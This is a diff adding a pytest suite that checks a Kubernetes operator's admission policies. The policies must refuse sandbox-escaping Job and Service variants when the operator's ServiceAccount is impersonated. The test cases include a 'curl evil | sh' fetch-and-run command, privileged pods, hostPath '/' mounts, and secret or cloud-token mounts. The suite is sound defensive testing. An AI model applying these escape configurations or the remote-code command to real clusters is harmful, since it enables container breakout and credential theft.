@@ -1,0 +1,245 @@
+"""What the chart promises a platform's security review, on the local cluster: after a default `helm install`
+(cluster scope), server-side dry runs and real writes impersonating the operator's ServiceAccount, in namespaces
+of this test (one opted in with the kubetune.io/managed label, one not) and in kube-system.
+
+Each refusal names its rule; the operator's own children, built by children.py with the settings the chart's
+Deployment gives it, are admitted."""
+import json
+import os
+import secrets
+import subprocess
+from unittest import mock
+
+import pytest
+
+from kubetune.api import FineTuneJob
+from kubetune.operator import children
+from kubetune.operator.settings import OperatorSettings
+from tests.api.cases import make_job
+from tests.chart.conftest import CHART
+from tests.plugins.cluster import wait_for as poll
+
+MANAGED = "kubetune.io/managed"
+
+
+class Release:
+    """A default install (cluster scope) under a unique name, so its policies bind only its own ServiceAccount."""
+
+    def __init__(self, cluster):
+        self.cluster = cluster
+        self.name = f"kt{secrets.token_hex(3)}"
+        self.system = f"{self.name}-system"
+        self.account = f"{self.name}-kubetune-operator"
+        self.user = f"system:serviceaccount:{self.system}:{self.account}"
+
+    def helm(self, *args: str) -> subprocess.CompletedProcess:
+        return subprocess.run([str(self.cluster.helm_path), *args, "--namespace", self.system,
+                               f"--kubeconfig={self.cluster.kubeconfig}"], check=True, capture_output=True, text=True)
+
+    def settings(self) -> OperatorSettings:
+        """The operator's settings as the chart's Deployment sets them."""
+        deployment = self.cluster.kubectl_json("get", "deployment", self.account, "-n", self.system)
+        env = {e["name"]: e["value"] for e in deployment["spec"]["template"]["spec"]["containers"][0]["env"]
+               if "value" in e}
+        with mock.patch.dict(os.environ, env):  # parsed as the operator parses its environment
+            return OperatorSettings()
+
+    def as_operator(self, *args: str, input: str | None = None) -> subprocess.CompletedProcess:
+        return self.cluster.kubectl(*args, f"--as={self.user}", input=input, check=False)
+
+
+@pytest.fixture(scope="module")
+def release(cluster):
+    r = Release(cluster)
+    cluster.kubectl("create", "namespace", r.system)
+    try:
+        # --take-ownership: other tests (or `kubectl apply -f crds/`) may have installed the CRD already.
+        r.helm("install", r.name, str(CHART), "--take-ownership")
+        names = [f"{r.name}-kubetune-operator-{kind}" for kind in ("children", "jobs", "services")]
+
+        def checked():  # the API server type-checked every policy's CEL
+            policies = [cluster.kubectl_json("get", "validatingadmissionpolicy", n) for n in names]
+            return all(p.get("status", {}).get("observedGeneration") == p["metadata"]["generation"]
+                       for p in policies) and policies
+        for policy in poll("the policies' type checking", checked):
+            assert not policy["status"].get("typeChecking", {}).get("expressionWarnings"), policy["status"]
+        yield r
+    finally:
+        subprocess.run([str(cluster.helm_path), "uninstall", r.name, "--namespace", r.system, "--ignore-not-found",
+                        f"--kubeconfig={cluster.kubeconfig}"], capture_output=True)
+        cluster.kubectl("delete", "namespace", r.system, "--wait=false", check=False)
+
+
+@pytest.fixture
+def opted_in(cluster, namespace) -> str:
+    cluster.kubectl("label", "namespace", namespace, f"{MANAGED}=true")
+    return namespace
+
+
+@pytest.fixture
+def not_opted_in(cluster) -> str:
+    name = f"not-opted-in-{secrets.token_hex(3)}"
+    cluster.kubectl("create", "namespace", name)
+    yield name
+    cluster.kubectl("delete", "namespace", name, "--wait=false", check=False)
+
+
+def finetunejob(cluster, namespace: str, spec: dict | None = None) -> FineTuneJob:
+    doc = make_job({"spec": spec or {}}, name=f"chat-{secrets.token_hex(2)}")
+    doc["metadata"]["namespace"] = namespace
+    created = json.loads(cluster.kubectl("create", "-o", "json", "-f", "-", input=json.dumps(doc)).stdout)
+    return FineTuneJob.model_validate(created)
+
+
+def built(job: FineTuneJob, settings: OperatorSettings) -> dict[str, dict]:
+    """The children the operator builds for `job`, by kind, as it would create them."""
+    run = children.current_run(job)
+    return {o["kind"]: o for o in [*children.build_dependents(job, run, settings),
+                                   children.build_job(job, run, settings)]}
+
+
+def moved(obj: dict, namespace: str) -> dict:
+    copy = json.loads(json.dumps(obj))
+    copy["metadata"]["namespace"] = namespace
+    return copy
+
+
+def refused_by(result: subprocess.CompletedProcess, rule: str) -> bool:
+    return result.returncode != 0 and "ValidatingAdmissionPolicy" in result.stderr and f"rule {rule}:" in result.stderr
+
+
+@pytest.mark.cluster
+def test_the_operator_writes_only_what_it_builds_where_namespaces_opted_in(cluster, release, opted_in,
+                                                                           not_opted_in):
+    settings = release.settings()
+    job = finetunejob(cluster, opted_in, {"nodes": 2, "resources": {"gpusPerNode": 1},
+                                          "hyperparameters": {"batchSize": 8, "microBatchSize": 4}})
+    own = built(job, settings)
+    create = lambda obj: release.as_operator("create", "--dry-run=server", "-f", "-",  # noqa: E731
+                                             input=json.dumps(obj))
+    # Policies load asynchronously: wait until the operator's Job in a namespace that did not opt in is refused.
+    poll("the policies to be in force", lambda: refused_by(create(moved(own["Job"], not_opted_in)),
+                                                            "opted-in-namespace"))
+
+    # Its own children, as built with the chart's settings: admitted.
+    for kind, obj in own.items():
+        admitted = create(obj)
+        assert admitted.returncode == 0, (kind, admitted.stderr)
+
+    # The same children anywhere else: refused, naming the rule.
+    for namespace in (not_opted_in, "kube-system"):
+        for kind, obj in own.items():
+            assert refused_by(create(moved(obj, namespace)), "opted-in-namespace"), (kind, namespace)
+
+    # A Job that merely carries kubetune's labels: each way out of the sandbox is refused by its rule.
+    def variant(change) -> dict:
+        copy = json.loads(json.dumps(own["Job"]))
+        change(copy["spec"]["template"]["spec"], copy)
+        return copy
+
+    def root(pod, _):
+        pod["securityContext"].update(runAsNonRoot=False, runAsUser=0)
+
+    def host_port(pod, _):
+        pod["containers"][0]["ports"][0]["hostPort"] = 9400
+
+    def secret_volume(pod, _):
+        pod["volumes"].append({"name": "creds", "secret": {"secretName": "cloud-admin"}})
+        pod["containers"][0]["volumeMounts"].append({"name": "creds", "mountPath": "/creds"})
+
+    def token(pod, _):
+        pod["volumes"].append({"name": "token", "projected": {"sources": [
+            {"serviceAccountToken": {"path": "token", "audience": "sts.amazonaws.com"}}]}})
+
+    def default_account(pod, _):
+        del pod["serviceAccountName"]
+
+    def env_from(pod, _):
+        pod["containers"][0]["envFrom"] = [{"secretRef": {"name": "cloud-admin"}}]
+
+    def other_secret_key(pod, _):
+        pod["containers"][0]["env"].append({"name": "GITHUB_TOKEN", "valueFrom": {"secretKeyRef": {
+            "name": "ci", "key": "token"}}})
+
+    def image(_, obj):
+        obj["spec"]["template"]["spec"]["containers"][0]["image"] = "docker.io/library/busybox:1.36"
+
+    def shell(pod, _):
+        pod["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
+
+    def unconfined(pod, _):
+        pod["securityContext"]["seccompProfile"] = {"type": "Unconfined"}
+
+    def selinux(pod, _):
+        pod["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}
+
+    def node_name(pod, _):
+        pod["nodeName"] = "control-plane"
+
+    def host_path(pod, _):
+        pod["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
+
+    def privileged(pod, _):
+        pod["containers"][0]["securityContext"]["privileged"] = True
+
+    cases = [(root, "non-root"), (host_port, "no-host-access"), (secret_volume, "trainer-volumes"),
+             (token, "no-service-account-token"), (default_account, "trainer-service-account"),
+             (env_from, "secret-references"), (other_secret_key, "secret-references"), (image, "allowed-images"),
+             (shell, "trainer-command"), (unconfined, "runtime-default-seccomp"), (selinux, "no-selinux-options"),
+             (node_name, "no-host-access"), (host_path, "trainer-volumes"), (privileged, "unprivileged")]
+    for change, rule in cases:
+        result = create(variant(change))
+        assert refused_by(result, rule), (change.__name__, result.stderr)
+
+    def everything(pod, obj):
+        for change, _ in cases[:4]:
+            change(pod, obj)
+    for namespace in (opted_in, not_opted_in, "kube-system"):
+        assert create(moved(variant(everything), namespace)).returncode != 0, namespace
+
+    # Services: only the headless rendezvous Service selecting its own Job's pods.
+    service = own["Service"]
+    for what, change in [("LoadBalancer", {"type": "LoadBalancer", "clusterIP": None}),
+                         ("NodePort", {"type": "NodePort", "clusterIP": None}),
+                         ("externalIPs", {"externalIPs": ["203.0.113.7"]}),
+                         ("another selector", {"selector": {"app": "database"}})]:
+        bad = json.loads(json.dumps(service))
+        bad["spec"].update(change)
+        bad["spec"] = {k: v for k, v in bad["spec"].items() if v is not None}
+        assert refused_by(create(bad), "headless-service"), what
+
+    # Unlabelled ConfigMaps are not the operator's to write.
+    stray = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "stray", "namespace": opted_in,
+                                                                    "ownerReferences": own["ConfigMap"]["metadata"]
+                                                                    ["ownerReferences"]}, "data": {"a": "b"}}
+    assert refused_by(create(stray), "kubetune-labels")
+
+
+@pytest.mark.cluster
+def test_the_operator_deletes_only_its_own_objects(cluster, release, opted_in):
+    settings = release.settings()
+    job = finetunejob(cluster, opted_in)
+    config_map = built(job, settings)["ConfigMap"]
+    # A real create as the operator (the policies admit it), then its delete: admitted.
+    poll("the policies to admit the operator's ConfigMap", lambda: release.as_operator(
+        "create", "-f", "-", input=json.dumps(config_map)).returncode == 0)
+    name = config_map["metadata"]["name"]
+    deleted = release.as_operator("delete", "configmap", name, "-n", opted_in, "--dry-run=server")
+    assert deleted.returncode == 0, deleted.stderr
+    # A ConfigMap someone else created, even in an opted-in namespace, and kube-system's: refused.
+    cluster.kubectl("create", "configmap", "team-settings", "-n", opted_in, "--from-literal=a=b")
+    for namespace, other in [(opted_in, "team-settings"), (opted_in, "kube-root-ca.crt"),
+                             ("kube-system", "kube-root-ca.crt")]:
+        refused = release.as_operator("delete", "configmap", other, "-n", namespace, "--dry-run=server")
+        assert refused.returncode != 0 and "ValidatingAdmissionPolicy" in refused.stderr, (namespace, other)
+    assert "rule kubetune-labels:" in release.as_operator(
+        "delete", "configmap", "team-settings", "-n", opted_in, "--dry-run=server").stderr
+    # Patching someone's Job into a kubetune one (to delete it next) is refused as well.
+    cluster.kubectl("create", "-f", "-", input=json.dumps({
+        "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "nightly", "namespace": opted_in},
+        "spec": {"suspend": True, "template": {"spec": {"restartPolicy": "Never", "containers": [
+            {"name": "c", "image": "busybox:1.36"}]}}}}))
+    relabel = release.as_operator("label", "job", "nightly", "-n", opted_in, "--dry-run=server",
+                                  "app.kubernetes.io/managed-by=kubetune", "app.kubernetes.io/name=kubetune-trainer",
+                                  "kubetune.io/finetunejob=x")
+    assert relabel.returncode != 0 and "ValidatingAdmissionPolicy" in relabel.stderr, relabel.stderr
